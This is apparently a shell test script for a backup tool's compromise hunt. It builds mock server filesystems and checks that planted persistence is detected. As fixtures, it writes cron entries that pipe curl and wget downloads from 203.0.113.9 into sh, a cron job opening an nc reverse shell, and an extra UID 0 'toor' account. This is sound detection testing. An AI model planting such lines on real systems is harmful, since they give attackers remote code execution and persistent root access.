# The system root of a source: a system backed up as several paths
# (/mnt/dpi/etc and /mnt/dpi/var, a server's disk mounted on the backup host)
# is hunted as a system, /mnt/dpi/etc judged as /etc; backup --root records
# the root; a source where no root is recognised is warned about in the hunt
# and in clean-point instead of being called clean.
set -u
. "${CR_TESTLIB:?}"

export CLEANROOM_REPO=$SCRATCH/vault
P=$(pwd -P)
test_rules "$P/rules"
expect_exit 0 cr init --kdf interactive

M=$P/mnt/dpi
mkdir -p "$M/etc/cron.d" "$M/var/log" "$M/var/spool/cron/crontabs" "$M/etc/systemd/system"
printf '[Service]\nExecStart=/usr/local/bin/backup-db\n' >"$M/etc/systemd/system/backup.service"
printf 'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n' \
    >"$M/etc/passwd"
printf 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n' >"$M/etc/crontab"
printf 'boot\n' >"$M/var/log/syslog"
expect_exit 0 cr backup --source srv4 --time 2026-12-01 "$M/etc" "$M/var"
# The attacker: a cron job piping a download into a shell, and a second UID 0 account.
printf '*/5 * * * * root curl -s http://203.0.113.9/x | sh\n' >"$M/etc/cron.d/sync"
printf 'toor:x:0:0::/root:/bin/bash\n' >>"$M/etc/passwd"
printf 'cron ran\n' >>"$M/var/log/syslog"
expect_exit 0 cr backup --source srv4 --time 2026-12-02 "$M/etc" "$M/var"
expect_exit 0 cr snapshots --json --source srv4
read -r A1 A2 <<<"$(python3 -c 'import json,sys; print(" ".join(s["id"] for s in json.load(open(sys.argv[1]))))' "$CR_OUT")"

expect_exit 0 cr hunt --source srv4
assert_grep "^  srv4: clean restore point ${A1:0:8} .*; first compromised ${A2:0:8}" "$CR_OUT" \
    "srv4 is hunted as a system"
grep -q "no system root" "$CR_OUT" "$CR_ERR" && fail "srv4 has a system root (/mnt/dpi)"
expect_exit 0 cr findings --json --source srv4 --min-severity high
python3 - "$CR_OUT" "$M" "$A2" <<'PY' || fail "cron job and UID 0 account found"
import json, sys
F = json.load(open(sys.argv[1]))["findings"]
M, a2 = sys.argv[2:]
cron = [f for f in F if f["path"] == M + "/etc/cron.d/sync" and f["snapshot"] == a2]
uid0 = [f for f in F if f["path"] == M + "/etc/passwd" and f["indicator"] == "persistence:uid0"
        and f["evidence"] and "toor" in f["evidence"]]
assert cron and cron[0]["indicator"] == "persistence:cron", F
assert uid0 and uid0[0]["severity"] in ("high", "critical"), F
PY
pass "several paths under a common system root"

# Day 3: the administrator's own unit (no package installed it) gains a command run at
# every start. Whoever wrote it, it runs at boot: high (docs/hunt.md, severity policy).
printf 'ExecStartPre=/usr/local/bin/prepare\n' >>"$M/etc/systemd/system/backup.service"
expect_exit 0 cr backup --source srv4 --time 2026-12-03 "$M/etc" "$M/var"
expect_exit 0 cr hunt --source srv4
expect_exit 0 cr findings --json --snapshot srv4:latest --min-severity high
python3 -c '
import json, sys
F = json.load(open(sys.argv[1]))["findings"]
u = [f for f in F if f["path"] == sys.argv[2] + "/etc/systemd/system/backup.service"]
assert u and u[0]["severity"] in ("high", "critical"), F' "$CR_OUT" "$M" ||
    fail "a changed unit nobody installed is high"
pass "a changed unit is high"

# backup --root: recorded in the snapshot, and the hunt judges from it even for one path
# that is not the root itself.
expect_exit 0 cr backup --source srv6 --root "$M" --time 2026-12-01 "$M/etc"
assert_grep "^  system root: $M$" "$CR_OUT" "backup prints the system root"
expect_exit 0 cr snapshots --json --source srv6
python3 -c 'import json,sys; s=json.load(open(sys.argv[1]))[0]; assert s["system_root"] == sys.argv[2], s' \
    "$CR_OUT" "$M" || fail "the system root is recorded"
printf '* * * * * root nc -e /bin/sh 203.0.113.9 4444\n' >"$M/etc/cron.d/more"
expect_exit 0 cr backup --source srv6 --root "$M" --time 2026-12-02 "$M/etc"
expect_exit 0 cr hunt --source srv6
expect_exit 0 cr findings --json --source srv6 --min-severity high
python3 -c '
import json, sys
F = json.load(open(sys.argv[1]))["findings"]
assert [f for f in F if f["path"] == sys.argv[2] + "/etc/cron.d/more"], F' "$CR_OUT" "$M" ||
    fail "with --root, /mnt/dpi/etc/cron.d is judged as /etc/cron.d"
# A root that is not among the paths is refused, and nothing is saved.
expect_exit 2 cr backup --source srv6 --root "$P/elsewhere" "$M/etc"
assert_grep "system root" "$CR_ERR" "the error names the system root"
expect_exit 2 cr backup --source srv6 --root "" "$M/etc"
expect_exit 0 cr snapshots --json --source srv6
python3 -c 'import json,sys; assert len(json.load(open(sys.argv[1]))) == 2' "$CR_OUT" ||
    fail "a refused backup saves nothing"
pass "backup --root"

# Several systems in one snapshot, without a common root: each is judged from its own.
mkdir -p "$P/vms/vm1/etc/cron.d" "$P/vms/vm2/etc/cron.d" "$P/vms/shared"
printf 'root:x:0:0:root:/root:/bin/bash\n' | tee "$P/vms/vm1/etc/passwd" >"$P/vms/vm2/etc/passwd"
printf 'data\n' >"$P/vms/shared/readme.txt"
expect_exit 0 cr backup --source srv7 --time 2026-12-01 "$P/vms/vm1" "$P/vms/vm2" "$P/vms/shared"
printf '* * * * * root wget -qO- http://203.0.113.9/y | sh\n' >"$P/vms/vm2/etc/cron.d/y"
printf 'toor:x:0:0::/root:/bin/bash\n' >>"$P/vms/vm1/etc/passwd"
expect_exit 0 cr backup --source srv7 --time 2026-12-02 "$P/vms/vm1" "$P/vms/vm2" "$P/vms/shared"
expect_exit 0 cr hunt --source srv7
grep -q "no system root" "$CR_OUT" "$CR_ERR" && fail "srv7 has two system roots"
expect_exit 0 cr findings --json --source srv7 --min-severity high
python3 - "$CR_OUT" "$P/vms" <<'PY' || fail "each path holding a system is judged as one"
import json, sys
F = json.load(open(sys.argv[1]))["findings"]
V = sys.argv[2]
assert [f for f in F if f["path"] == V + "/vm2/etc/cron.d/y" and f["indicator"] == "persistence:cron"], F
assert [f for f in F if f["path"] == V + "/vm1/etc/passwd" and f["indicator"] == "persistence:uid0"], F
PY
pass "several systems, each its own root"

# Several paths and no system among them: said loudly, not called clean.
mkdir -p "$P/data/a" "$P/data/b"
printf 'x\n' >"$P/data/a/x.txt"
printf 'y\n' >"$P/data/b/y.txt"
expect_exit 0 cr backup --source srv5 --time 2026-12-01 "$P/data/a" "$P/data/b"
expect_exit 0 cr hunt --source srv5
assert_grep "srv5: no system root recognised: persistence not judged" "$CR_ERR" \
    "the hunt warns that persistence was not judged"
expect_exit 0 cr clean-point --source srv5
assert_grep "srv5: no system root recognised: persistence not judged" "$CR_ERR" \
    "clean-point warns that persistence was not judged"
expect_exit 0 cr clean-point --source srv5 --json
python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); c=d[0] if isinstance(d,list) else d["clean_points"][0]; assert c["system_root_recognised"] is False, c' \
    "$CR_OUT" || fail "clean-point --json says no system root"
expect_exit 0 cr clean-point --source srv4
grep -q "no system root" "$CR_ERR" && fail "srv4 is not warned about"
pass "no system root: warned in hunt and clean-point"
